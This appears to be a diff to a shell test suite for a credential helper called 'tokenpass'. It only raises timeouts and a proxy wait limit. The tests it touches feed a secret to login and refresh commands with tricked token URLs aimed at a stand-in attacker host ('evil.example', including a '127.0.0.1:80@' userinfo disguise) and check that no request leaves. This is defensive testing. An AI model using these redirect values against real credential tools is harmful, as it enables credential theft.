@@ -21,7 +21,7 @@ test_setup 'keyring, the recording proxy' '
 	PROXY_PID=$! &&
 	test_atexit "test_stop_pid $PROXY_PID" &&
 	i=0 &&
-	while ! test -f "$TRASH/proxy.ready" && test $i -lt 100; do
+	while ! test -f "$TRASH/proxy.ready" && test $i -lt 300; do
 		i=$((i + 1))
 		sleep 0.1
 	done &&
@@ -51,7 +51,7 @@ no_request () {
 }
 
 test_expect_success 'rig: an allowed URL does reach the proxy' '
-	printf "secret\n" | test_must_fail timeout 20 tokenpass login \
+	printf "secret\n" | test_must_fail timeout 60 tokenpass login \
 		--host rig.example --user u --grant client-credentials \
 		--token-url https://evil.example/token --client-id c 2>err &&
 	test_grep "^request CONNECT evil.example:443" "$PROXY_LOG" &&
@@ -80,7 +80,7 @@ sys.stdout.write(json.dumps(r, separators=(\",\", \":\")))
 
 test_expect_success 'rig: a stored tricked URL did reach the proxy before' '
 	store_tricked rig2.example "https://evil.example/token" &&
-	test_must_fail timeout 20 tokenpass refresh --host rig2.example \
+	test_must_fail timeout 60 tokenpass refresh --host rig2.example \
 		--user u --force 2>err &&
 	test_grep "^request CONNECT evil.example:443" "$PROXY_LOG" &&
 	: >"$PROXY_LOG"
@@ -91,7 +91,7 @@ while read -r url; do
 	test -n "$url" || continue
 	n=$((n + 1))
 	test_expect_success "login refuses $url" '
-		{ printf "secret\n" | timeout 20 tokenpass login \
+		{ printf "secret\n" | timeout 60 tokenpass login \
 			--host login$n.example --user u \
 			--grant client-credentials --token-url "$url" \
 			--client-id c 2>err; rc=$?; } &&
@@ -104,13 +104,13 @@ while read -r url; do
 	'
 	test_expect_success "refresh refuses a stored $url" '
 		store_tricked refresh$n.example "$url" &&
-		test_must_fail timeout 20 tokenpass refresh \
+		test_must_fail timeout 60 tokenpass refresh \
 			--host refresh$n.example --user u --force 2>err &&
 		cat err &&
 		no_request &&
 		refused_url "$url" &&
 		{ printf "protocol=https\nhost=refresh$n.example\nusername=u\n\n" |
-		  timeout 20 tokenpass get >got 2>err || :; } &&
+		  timeout 60 tokenpass get >got 2>err || :; } &&
 		cat err &&
 		test_grep ! "password=" got &&
 		no_request &&
@@ -136,7 +136,7 @@ EOF
 
 test_expect_success 'the authorization-code login refuses a tricked URL up front' '
 	url="http://127.0.0.1:80@evil.example/token" &&
-	{ timeout 20 tokenpass login --no-browser --host code.example \
+	{ timeout 60 tokenpass login --no-browser --host code.example \
 		--user u --token-url "$url" </dev/null >out 2>err; rc=$?; } &&
 	echo "exit $rc" && cat err &&
 	test $rc -ne 0 && test $rc -ne 124 &&
